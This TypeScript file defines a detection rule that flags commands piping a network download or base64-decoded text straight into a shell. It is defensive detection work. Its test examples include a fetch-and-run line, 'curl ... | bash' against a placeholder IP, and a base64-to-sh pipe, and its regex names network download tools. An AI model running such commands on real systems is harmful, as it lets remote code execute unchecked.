/** A download or a decoded text that is run by a shell. */
import { defineDetection } from "@plimsoll/core";

export const pipedDownload = defineDetection({
  id: "piped-download",
  title: "What was downloaded is run at once",
  severity: "high",
  why: "A script from the network, straight into a shell: how droppers begin.",
  techniques: ["T1105", "T1059.004"],
  equivalents: ["falco: Launch Ingress Remote File Copy Tools in Container"],
  closedBy: ["default-deny-egress", "writable-root-filesystem"],
  kinds: ["exec"],
  when: "line.matches('(curl|wget|fetch) [^|;&]*https?://[^|]*\\\\| *(sudo +)?(/bin/|/usr/bin/)?(ba|da|a|z|k)?sh( |$)') || line.matches('base64 +(-d|--decode|-D)[^|]*\\\\| *(/bin/)?(ba|da|a)?sh( |$)')",
  examples: {
    present: [
      {
        detail: {
          kind: "exec",
          path: "/bin/sh",
          args: ["sh", "-c", "curl -s http://203.0.113.9/x.sh | bash"],
        },
      },
      { detail: { kind: "exec", path: "/bin/bash", args: ["bash", "-c", "echo aWQ= | base64 -d | sh"] } },
    ],
    absent: [
      {
        detail: { kind: "exec", path: "/bin/sh", args: ["sh", "-c", "curl -s http://web/health | grep ok"] },
      },
    ],
  },
});
